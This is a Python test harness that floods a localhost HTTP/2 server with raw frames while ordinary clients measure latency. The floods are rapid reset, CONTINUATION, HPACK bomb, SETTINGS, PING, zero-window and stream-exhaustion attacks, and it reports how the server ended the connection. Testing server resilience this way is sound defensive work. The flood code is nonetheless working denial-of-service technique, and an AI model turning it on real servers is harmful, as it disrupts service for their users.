"""One HTTP/2 flood against a server, in cleartext by prior knowledge, with raw
frames (hyperframe and hpack, which come with Python's h2), while a well-behaved
client measures /toy beside it. Reports how the flooding connection ended.

    python3 h2flood.py --port PORT --kind KIND [--seconds 5] [--good-clients 20]

KIND: rapid_reset, continuation, hpack_bomb, settings, ping, zero_window,
too_many_streams. The flood runs until the server ends the connection, or for
--seconds. The good clients (HTTP/1.1 keep-alive, one request at a time each) ask
/toy in a loop meanwhile. Prints one JSON object: the kind, whether the server ended
the connection and after how long, the GOAWAY's error code if one came, the frames
sent, and the good clients' answers and latencies (p50, p99, max, in seconds).
"""

import argparse
import http.client
import json
import socket
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_CODES = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
    "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
]


class Flooder:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.port = port
        self.frames = 0
        self.closed_at = None
        self.goaway = None
        self.reader = threading.Thread(target=self.read, daemon=True)

    def start(self, initial_window=None):
        settings = SettingsFrame(0)
        if initial_window is not None:
            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = initial_window
        self.sock.sendall(PREFACE + settings.serialize())
        self.reader.start()

    def read(self):
        """Reads frames until the server closes; notes a GOAWAY. Never sends
        WINDOW_UPDATE: a zero window stays zero."""
        buf = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    frame, _ = Frame.parse_frame_header(memoryview(buf[:9]))
                    if isinstance(frame, GoAwayFrame):
                        frame.parse_body(memoryview(buf[9:9 + length]))
                        self.goaway = ERROR_CODES[frame.error_code] if frame.error_code < 14 else str(frame.error_code)
                    buf = buf[9 + length:]
        except OSError:
            pass
        self.closed_at = time.monotonic()

    def send(self, *frames):
        self.sock.sendall(b"".join(f.serialize() for f in frames))
        self.frames += len(frames)

    def request(self, stream, path="/toy", end_headers=True, extra=()):
        headers = [(":method", "GET"), (":scheme", "http"), (":path", path),
                   (":authority", f"127.0.0.1:{self.port}"), *extra]
        frame = HeadersFrame(stream, self.encoder.encode(headers))
        frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame


def flood(kind, flooder, deadline):
    """Sends the flood until the connection closes or the deadline passes."""
    stream = 1
    if kind == "zero_window":
        flooder.start(initial_window=0)
        # Answers wait for a window that never opens.
        flooder.send(*[flooder.request(s, "/metrics") for s in range(1, 21, 2)])
        while flooder.closed_at is None and time.monotonic() < deadline:
            time.sleep(0.05)
        return
    flooder.start()
    if kind == "continuation":
        flooder.send(flooder.request(1, end_headers=False))
    if kind == "hpack_bomb":
        # One large field in the dynamic table, then blocks that name it again and
        # again: each is a few hundred bytes, and decodes to far over the limit.
        flooder.send(flooder.request(1, "/healthz", extra=[("x-bomb", "b" * 4000)]))
        stream = 3
    while flooder.closed_at is None and time.monotonic() < deadline:
        try:
            if kind == "rapid_reset":
                batch = []
                for _ in range(50):
                    batch += [flooder.request(stream), RstStreamFrame(stream, error_code=8)]
                    stream += 2
                flooder.send(*batch)
            elif kind == "continuation":
                block = flooder.encoder.encode([("x-a", "b")])
                flooder.send(*[ContinuationFrame(1, block) for _ in range(50)])
            elif kind == "hpack_bomb":
                batch = []
                for _ in range(20):
                    frame = HeadersFrame(stream, bytes([0xBE]) * 400)  # index 62: x-bomb
                    frame.flags.add("END_STREAM")
                    frame.flags.add("END_HEADERS")
                    batch.append(frame)
                    stream += 2
                flooder.send(*batch)
            elif kind == "settings":
                flooder.send(*[SettingsFrame(0) for _ in range(50)])
            elif kind == "ping":
                flooder.send(*[PingFrame(0, b"\0" * 8) for _ in range(50)])
            elif kind == "too_many_streams":
                batch = []
                for _ in range(50):
                    batch.append(flooder.request(stream))
                    stream += 2
                flooder.send(*batch)
            else:
                raise SystemExit(f"unknown kind {kind}")
        except OSError:
            break
        time.sleep(0.001)


def good_client(port, stop, latencies, outcomes, lock):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    while not stop.is_set():
        started = time.monotonic()
        try:
            connection.request("GET", "/toy")
            response = connection.getresponse()
            response.read()
            outcome = str(response.status)
        except (OSError, http.client.HTTPException) as error:
            outcome = type(error).__name__
            connection.close()
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        with lock:
            latencies.append(time.monotonic() - started)
            outcomes[outcome] = outcomes.get(outcome, 0) + 1


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--kind", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--good-clients", type=int, default=20)
    args = parser.parse_args()

    stop, lock = threading.Event(), threading.Lock()
    latencies, outcomes = [], {}
    good = [threading.Thread(target=good_client, args=(args.port, stop, latencies, outcomes, lock), daemon=True)
            for _ in range(args.good_clients)]
    for thread in good:
        thread.start()
    flooder = Flooder(args.port)
    started = time.monotonic()
    flood(args.kind, flooder, started + args.seconds)
    # The good clients go on to the end of the run, whatever became of the flood.
    time.sleep(max(0.0, started + args.seconds - time.monotonic()))
    stop.set()
    for thread in good:
        thread.join(15)
    flooder.sock.close()
    latencies.sort()
    pick = lambda q: round(latencies[min(len(latencies) - 1, int(q * len(latencies)))], 3) if latencies else None
    print(json.dumps({
        "kind": args.kind,
        "ended_by_server": flooder.closed_at is not None,
        "ended_after_s": round(flooder.closed_at - started, 3) if flooder.closed_at else None,
        "goaway": flooder.goaway,
        "frames_sent": flooder.frames,
        "good": {"outcomes": outcomes, "p50": pick(0.5), "p99": pick(0.99), "max": pick(1.0)},
    }))


if __name__ == "__main__":
    main()
